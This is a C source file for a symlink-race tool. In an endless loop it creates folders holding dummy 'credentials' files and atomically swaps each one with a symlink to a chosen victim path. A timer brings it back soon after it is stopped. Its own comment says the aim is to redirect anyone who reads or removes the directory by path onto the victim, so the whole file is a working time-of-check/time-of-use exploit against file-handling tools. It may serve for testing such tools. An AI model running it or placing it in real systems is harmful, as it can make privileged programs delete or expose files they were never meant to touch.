// swap OUT VICTIM [MILLISECONDS]: makes folders and links to VICTIM in OUT and exchanges their names without
// end, so that who reads or removes OUT by path gets from a folder to the victim. With a time, it
// goes on so soon after it was stopped.
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static void put(int out, const char* folder, const char* name) {
  char path[512];
  snprintf(path, sizeof path, "%s/%s", folder, name);
  int fd = openat(out, path, O_WRONLY | O_CREAT, 0644);
  if (fd < 0) return;
  (void)!write(fd, "mine", 4);
  close(fd);
}

static void nothing(int signal) { (void)signal; }

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  const int out = open(argv[1], O_RDONLY | O_DIRECTORY);
  const char* inner[] = {"", "/deep", "/deep/deeper"};
  if (out < 0) return 3;
  timer_t timer;
  struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGCONT};
  const struct itimerspec soon = {{0, 0}, {0, (argc > 3 ? atol(argv[3]) : 0) * 1000000}};
  if (argc > 3) {
    signal(SIGCONT, nothing);
    if (timer_create(CLOCK_MONOTONIC, &event, &timer) != 0) return 4;
  }
  for (;;) {
    struct timespec now;
    char folder[300], link[300], path[400];
    clock_gettime(CLOCK_MONOTONIC, &now);
    const long long number = now.tv_sec * 1000000000LL + now.tv_nsec;
    snprintf(folder, sizeof folder, "folder-%lld", number);
    snprintf(link, sizeof link, "link-%lld", number);
    for (int at = 0; at < 3; at++) {
      snprintf(path, sizeof path, "%s%s", folder, inner[at]);
      mkdirat(out, path, 0755);
      put(out, path, "credentials");
      put(out, path, "kept");
    }
    symlinkat(argv[2], out, link);
    // Until the folder was emptied.
    while (renameat2(out, folder, out, link, RENAME_EXCHANGE) == 0) {
      // Being stopped takes away a signal that waits: only a timer that is still to come helps.
      if (argc > 3) timer_settime(timer, 0, &soon, NULL);
    }
    unlinkat(out, link, 0);
  }
}
